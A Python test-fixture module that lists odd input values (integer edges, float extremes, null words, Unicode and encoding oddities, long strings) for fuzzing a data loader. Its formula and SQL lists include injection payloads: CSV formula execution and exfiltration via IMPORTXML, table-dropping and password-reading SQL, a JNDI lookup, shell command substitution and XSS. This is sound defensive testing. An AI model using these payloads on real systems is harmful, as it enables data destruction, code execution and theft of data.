"""Odd values, by what is odd about them; each is put into every column of some kinds."""

from __future__ import annotations

from itertools import product

# Where counting ends for somebody: INT, INT UNSIGNED, what a double counts exactly, BIGINT, BIGINT UNSIGNED.
_EDGES = [2**31 - 1, 2**31, -(2**31), -(2**31) - 1, 2**32, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 2**64, 10**30]
_SPELLED_21 = ["{}", "{}.0", "{}.", "+{}", "-{}", " {} ", "\t{}", "0{}", "{}e0", ".{}e2", "{}0E-1", "{}.000e+00"]
_NOT_QUITE_21 = [
    "{}.5",
    "{},5",
    "{}_000",
    "{},000",
    "{}'000",
    "{} 000",
    "0x{}",
    "0b{}",
    "0o{}",
    "{}f",
    "{}L",
    "{}d5",
    "{}%",
]
_NOT_QUITE_21 += [
    "${}",
    "€{}",
    "({})",
    "{}-",
    "--{}",
    "+-{}",
    "- {}",
    "{}e",
    "{}e+",
    "e{}",
    "{}e1.5",
    "{}.2.3",
    "#{}",
    "'{}",
]
_NOT_QUITE_21 += [
    "\u2212{}",
    "\u00a0{}",
    "{}\u3000",
    "\u200b{}",
    "{}\ufeff",
    "\x0b{}",
    "{}\x0c",
    "{}\x1f",
    "~{}",
    "{}/1",
]
_OTHER_DIGITS = [
    "\u0662\u0661",
    "\u0968\u0967",
    "\uff12\uff11",
    "\u0662\u0661.\u0665",
    "\u00bd",
    "\u2161",
    "\u4e8c\u5341\u4e00",
    "2\u00b9",
]
_DOUBLES = [
    "0.1",
    "0.30000000000000004",
    "0.1000000000000000055511151231257827",
    "1e23",
    "9007199254740993.0",
    "-0",
    "-0.0",
]
_DOUBLES += [
    "0" * 100,
    "0e999999999",
    "1.7976931348623157e308",
    "1.7976931348623159e308",
    "-1e308",
    "1e309",
    "1e400",
    "-1e400",
]
_DOUBLES += [
    "2.2250738585072014e-308",
    "2.2250738585072011e-308",
    "5e-324",
    "-5e-324",
    "3e-324",
    "2e-324",
    "1e-400",
    "-1e-400",
]
_DOUBLES += [
    "1e999999999",
    "1e-999999999",
    "1e99999999999999999999",
    "9" * 400,
    "0." + "0" * 400 + "1",
    "1." + "0" * 1000,
]
_DOUBLES += ["90071992547409", "91000000000000", "-91000000000000"]  # about the last time that has ticks
_WORDS = [
    "nan",
    "NaN",
    "NAN",
    "-nan",
    " nan",
    "inf",
    "-inf",
    "Infinity",
    "1.#INF",
    "NA",
    "N/A",
    "#N/A",
    "#DIV/0!",
    "#REF!",
]
_WORDS += [
    "NULL",
    "null",
    "None",
    "NONE",
    "nil",
    "undefined",
    "True",
    "FALSE",
    "yes",
    "-",
    "--",
    "?",
    ".",
    "+",
    "",
    "BASE.END",
]

_DATES = ["2026-11-22", "22.11.2026", "11/22/26", "22-Nov", "0000-00-00", "2026-02-30", "2026-13-45 25:61:61", "44887"]
_DATES += [
    "2026-11-22T10:00:00Z",
    "2026-11-22 10:00:00.123456+09:00",
    "10:30",
    "1900-01-00",
    "P1DT12H",
    "2026년 11월 22일",
]

_FORMULAS = [
    "=1+1",
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "+1+1",
    "-1-1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/","y")',
    "'=1",
    "\t=1",
]
_FORMULAS += ["=NOW()", "=A1", "%0A=1", "@x", "=-1", '=IMPORTXML(CONCAT("http://x/",A1),"//a")']

_SQL = [
    "'); drop table landing_loads; --",
    '"); drop table landing_loads; -- ',
    "`; drop table landing_loads; #",
    "1; select sleep(60)",
]
_SQL += [
    "1 or 1=1",
    "' union select password from mysql.user --",
    "/*!50000 shutdown */",
    "*/ shutdown",
    "@@version",
    "@x:=1",
    ":name",
]
_SQL += [
    "?",
    "%s %(x)s %d %",
    "{0} {x} {{ 7*7 }} {% do %}",
    "${jndi:ldap://127.0.0.1/x}",
    "$(touch odd_was_here)",
    "`touch odd_was_here`",
]
_SQL += [
    "| touch odd_was_here",
    "\\! touch odd_was_here",
    "/etc/passwd",
    "load data local infile '/etc/passwd' into table x",
]
_SQL += [
    "<script>alert(1)</script>",
    "\\x27 or 1=1",
    "__import__('os').abort()",
    "' || sleep(60) || '",
    "\u02bc or 1=1",
    "\uff07 or 1=1",
]

_ESCAPES = [
    "\\N",
    "\\n",
    "\\t",
    "\\0",
    "\\r",
    "\\b",
    "\\Z",
    "\\",
    "\\\\",
    "x\\",
    '\\"',
    "\\'",
    "\\,",
    'x\\"y',
    "\\u0041",
    "\\x41",
    "&amp;",
    "%41",
]
_ESCAPES += [
    "\t",
    "x\ty",
    "\x01",
    "\x08",
    "\x1a",
    "\x1b[2J",
    "\x7f",
    "\x80",
    "\x9b31m",
    '"NULL"',
    '"\\N"',
    "NULL,NULL",
    '",NULL,"',
    "\\N,\\N",
]

_QUOTES = [
    '"',
    '""',
    '"""',
    'x"y',
    '"x"',
    '"x',
    'x"',
    "'",
    "''",
    "'x'",
    "`x`",
    "x,y",
    ",",
    ",,",
    '","',
    '",',
    ',"',
    "x;y",
    "x|y",
    "«x»",
    "“x”",
]
_LINE_BREAKS = ["x\ny", "x\r\ny", "x\ry", "\n", "x\n", "\nx", "x\n\ny", 'x"\n"y', "x,\n,y", "x\n# y"]
_BLANKS = [
    " ",
    "  ",
    " x",
    "x ",
    "  x  ",
    "x y",
    "x  y",
    "\tx\t",
    " \t ",
    "\u00a0",
    "\u00a0x",
    "x\u3000",
    "\u2003x",
    "\u1680",
    "\x0bx\x0c",
]
_BLANKS += [
    "\u200b",
    "x\u200by",
    "\u200d",
    "\ufeff",
    "\ufeffx",
    "\u2060x",
    "\u00adx",
    "\u115f",
    "x\u2028y",
    "x\u2029y",
    "x\u0085y",
    "\u180e",
]
_LANGUAGES = [
    "한글",
    "\u1112\u1161\u11ab",
    "e\u0301",
    "\u00e9",
    "ß",
    "SS",
    "İ",
    "ﬁ",
    "🧬",
    "👩\u200d🔬",
    "🇰🇷",
    "עברית",
    "العربية",
    "\u202eabc",
]
_LANGUAGES += [
    "\u2067אב\u2069 x",
    "z\u0335\u0321\u0321" * 8,
    "\uffff",
    "\U0010ffff",
    "\ufdd0",
    "\ue000",
    "ⓧ",
    "\U0001d431",
    "\u037e",
    "\u212a",
    "\uff21",
    "ไทย",
]

_LENGTHS = ["x" * length for length in (63, 64, 65, 127, 128, 129, 160, 161, 15_999, 16_000, 16_001)]
_LENGTHS += [letter * length for letter, length in product("한🧬", (64, 65, 128, 129, 160, 161, 16_000, 16_001))]
_LENGTHS += [" " * 65, "é" * 64, "e\u0301" * 33, '"' * 65, "1" * 65, "x." * 64, "A.B" * 43]

# Bytes that are not UTF-8, by what is wrong: no beginning, never a byte of it, spelled too long, half of a pair, cut
# off, beyond Unicode; and what other encodings make of text.
_NOT_UTF8 = [
    b"\x80",
    b"\xbf\xbf",
    b"\xfe",
    b"\xff\xff",
    b"\xc0\x80",
    b"\xc1\xbf",
    b"\xe0\x80\x80",
    b"\xf0\x80\x80\x80",
    b"\xed\xa0\x80",
]
_NOT_UTF8 += [
    b"\xed\xa0\xbd\xed\xb8\x80",
    b"\xc3",
    b"\xe2\x82",
    b"\xf0\x9f\x98",
    b"\xf4\x90\x80\x80",
    b"\xf5\x80\x80\x80",
    b"\xf8\x88\x80\x80\x80",
]
_NOT_UTF8 += [
    "Größe".encode("latin-1"),
    "“x”".encode("cp1252"),
    "한글".encode("cp949"),
    "漢字".encode("shift_jis"),
    "\u2028".encode("utf-16-be"),
]
_NUL = ["\0", "x\0", "\0x", "x\0y", "\0\0\0", "2\x001", "\\\0"]

# States whose base, with `.END` behind it, only just fits a phase key, or does not; and bases and states that look odd.
ODD_STATES = [base * length + state for base in "x🧬" for length, state in ((126, ".A"), (156, ".ABC"), (157, ".A"))]
ODD_STATES += [
    "A." + "x" * 158,
    "A." + "x" * 159,
    "A.B.C",
    "A..B",
    " .X",
    "END.ISSUE",
    "A.END",
    "A.END ",
    "a.end",
    "..A",
]

ODD_TEXTS: dict[str, list[str]] = {
    "Whole numbers": [f"{edge}{tail}" for edge, tail in product(_EDGES, ("", ".0", "e0"))],
    "Spellings of a number": [form.format(21) for form in (*_SPELLED_21, *_NOT_QUITE_21)]
    + ["1_000", "0x10", "1,5", *_OTHER_DIGITS],
    "Floats": _DOUBLES,
    "Words for nothing": _WORDS,
    "Dates": _DATES,
    "Formulas": _FORMULAS,
    "SQL and commands": _SQL,
    "Escapes": _ESCAPES,
    "Quotes and commas in values": _QUOTES,
    "Line breaks in values": _LINE_BREAKS,
    "Blanks": _BLANKS,
    "Languages": _LANGUAGES,
    "Lengths": _LENGTHS,
    "NUL": _NUL,
    "Bytes that are not UTF-8": [raw.decode("utf-8", "surrogateescape") for raw in _NOT_UTF8],
}
